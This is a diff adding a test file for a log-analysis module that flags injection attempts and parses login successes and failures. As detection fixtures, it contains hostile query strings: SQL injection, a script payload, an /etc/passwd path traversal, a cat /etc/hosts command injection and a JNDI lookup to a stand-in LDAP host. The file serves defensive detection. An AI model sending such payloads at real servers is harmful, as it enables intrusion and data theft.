@@ -1,0 +1,64 @@
+import { describe, expect, it } from 'vitest';
+import { readAttempt, readLogin } from '../../src/analyses/security-signs.ts';
+import { logEvent, requestEvent } from '../support/log-events.ts';
+
+const target = (path: string, query: string): ReturnType<typeof readAttempt> =>
+  readAttempt(
+    requestEvent(0, { path, status: 200 }, { ip: '192.0.2.1', raw: `192.0.2.1 "GET ${path}${query} HTTP/1.1" 200` }),
+  );
+
+describe('injection attempts', () => {
+  it.each([
+    ['?q=1%27%20OR%20%271%27%3D%271', 'sql_injection'],
+    ['?q=x%27%20UNION%20SELECT%20NULL,version()--%20-', 'sql_injection'],
+    ['?id=1;DROP%20TABLE%20users--', 'sql_injection'],
+    ['?id=1%20AND%20SLEEP(5)', 'sql_injection'],
+    ['?page=1%20ORDER%20BY%2010--', 'sql_injection'],
+    ['?q=%27%20OR%201=1%23', 'sql_injection'],
+    ['?q=%3Cscript%3Ealert(1)%3C/script%3E', 'xss'],
+    ['?file=../../../../etc/passwd', 'path_traversal'],
+    ['?host=127.0.0.1;cat%20/etc/hosts', 'command_injection'],
+    ['?x=$%7Bjndi:ldap://198.51.100.1/a%7D', 'command_injection'],
+  ])('%s is %s', (query, kind) => expect(target('/search', query)?.kind).toBe(kind));
+
+  it.each([
+    "?q=o'neill",
+    '?q=o%27neill+wetsuit',
+    '?q=union+jack',
+    '?q=select+comfort+pillow',
+    "?q=kids'+boots",
+    '?q=rock+and+roll&page=2',
+    '?q=drop+shoulder+tee',
+    '?sort=price;asc',
+  ])('%s is none', query => expect(target('/search', query)).toBeNull());
+
+  it('takes linear time for a long query', () => {
+    const started = performance.now();
+    for (const piece of ["'", "' or ", '%27%20', ';', 'union ', '../']) target('/search', `?q=${piece.repeat(20_000)}`);
+    expect(performance.now() - started).toBeLessThan(500);
+  });
+});
+
+describe('logins', () => {
+  it.each([
+    ['Failed password for invalid user admin from 192.0.2.9 port 4022 ssh2', '192.0.2.9', false],
+    ['Login failed for ann@example.org from 192.0.2.9: bad password', '192.0.2.9', false],
+    ['Accepted password for ann from 192.0.2.9 port 4022 ssh2', '192.0.2.9', true],
+    ['pam_unix(sshd:auth): authentication failure; rhost=192.0.2.9', '192.0.2.9', false],
+  ])('%s', (message, source, isSuccess) =>
+    expect(readLogin(logEvent(0, { message }))).toMatchObject({ source, isSuccess, isAnswer: false }),
+  );
+
+  it.each(['Order 17 failed', 'password reset mail sent to 192.0.2.9', 'login page served from 192.0.2.9'])(
+    '%s is none',
+    message => expect(readLogin(logEvent(0, { message }))).toBeNull(),
+  );
+
+  it('are told by the status of an answer, too', () => {
+    const answer = (path: string, status: number): ReturnType<typeof readLogin> =>
+      readLogin(requestEvent(0, { path, status, method: 'POST' }, { ip: '192.0.2.9' }));
+    expect(answer('/api/login', 401)).toMatchObject({ isSuccess: false, isAnswer: true });
+    expect(answer('/api/login', 200)).toMatchObject({ isSuccess: true });
+    expect(answer('/api/orders', 401)).toBeNull();
+  });
+});
